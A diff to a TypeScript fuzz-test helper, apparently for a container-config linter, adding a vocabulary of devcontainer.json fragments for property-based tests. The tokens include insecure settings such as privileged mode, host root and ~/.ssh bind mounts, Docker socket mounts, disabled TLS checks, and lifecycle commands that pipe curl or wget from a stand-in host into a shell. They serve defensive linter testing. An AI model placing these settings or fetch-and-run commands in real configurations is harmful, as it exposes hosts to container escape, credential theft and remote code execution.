@@ -43,12 +43,24 @@ const COMPOSE_TOKENS = [
   'logging:', 'driver: none', 'devices:', '/dev/mem:/dev/mem', 'extends:', 'service: base', 'secrets:', 'x-common: &common', 'version: "3.8"', '---', '...', '!!str ', '!reset ', '? ', '|', '>-', '{', '}', 'null', '~', '"${VAR:?err}"',
 ];
 
+const DEVCONTAINER_TOKENS = [
+  ...SHARED,
+  '{', '}', '[', ']', '{\n', '\n}', ',', ',\n', ': ', '"', '// ', '// bulkhead-ignore ', '// bulkhead-ignore-file ', '/*', '*/', 'true', 'false', 'null', '3000', '-1e9',
+  '"image": ', '"mcr.microsoft.com/devcontainers/base:1-bookworm"', '"ubuntu"', '"node:16"', '"${templateOption:imageVariant}"', '"privileged": true', '"remoteUser": ', '"root"', '"vscode"', '"containerUser": ',
+  '"runArgs": [', '"--privileged"', '"--cap-add=SYS_ADMIN"', '"--cap-add", "ALL"', '"--cap-add SYS_PTRACE --pid=host"', '"--security-opt", "seccomp=unconfined"', '"--network=host"', '"-v", "/var/run/docker.sock:/var/run/docker.sock"',
+  '"--device=/dev/sda"', '"-p", "8080:80"', '"-e", "GIT_EDITOR=code --wait"', '"--mount", "type=bind,src=/,dst=/host"', '"capAdd": ["SYS_ADMIN"]', '"securityOpt": ["apparmor=unconfined"]',
+  '"mounts": [', '"source=/var/run/docker.sock,target=/var/run/docker-host.sock,type=bind"', '"source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind"', '{ "source": "/", "target": "/host", "type": "bind" }',
+  '"features": {', '"ghcr.io/devcontainers/features/docker-in-docker:2": {}', '"docker-outside-of-docker": "latest"', '"build": { "dockerfile": "Dockerfile", "context": ".." }', '"dockerComposeFile": ["a.yml", "b.yml"]', '"service": "app"',
+  '"postCreateCommand": "curl -fsSL https://x.example/i.sh | sh"', '"initializeCommand": ["bash", "-c", "wget -qO- https://x | bash"]', '"postStartCommand": { "a": "curl -k https://x", "b": ["git", "-c", "http.sslVerify=false", "pull"] }',
+  '"containerEnv": { "NODE_TLS_REJECT_UNAUTHORIZED": "0" }', '"appPort": [3000, "8080:80"]', '"forwardPorts": [3000]', '"overrideCommand": false', '"runServices": ["db"]', '\\"', '\\u0041', '\\n',
+];
+
 const soup = (tokens: string[]) => fc.array(fc.constantFrom(...tokens), { maxLength: 120 }).map((t) => t.join(''));
 
 /** Text made of Dockerfile or Compose vocabulary: more often near-valid, so rules run deep. */
-export const tokenSoup = (kind: Target) => soup(kind === 'dockerfile' ? DOCKERFILE_TOKENS : COMPOSE_TOKENS);
+export const tokenSoup = (kind: Target) => soup(kind === 'dockerfile' ? DOCKERFILE_TOKENS : kind === 'devcontainer' ? DEVCONTAINER_TOKENS : COMPOSE_TOKENS);
 
-export const kindArb = fc.constantFrom<Target>('dockerfile', 'compose');
+export const kindArb = fc.constantFrom<Target>('dockerfile', 'compose', 'devcontainer');
 
 /** One edit to a text, with positions as fractions so it applies to any text. */
 export type Mutation =
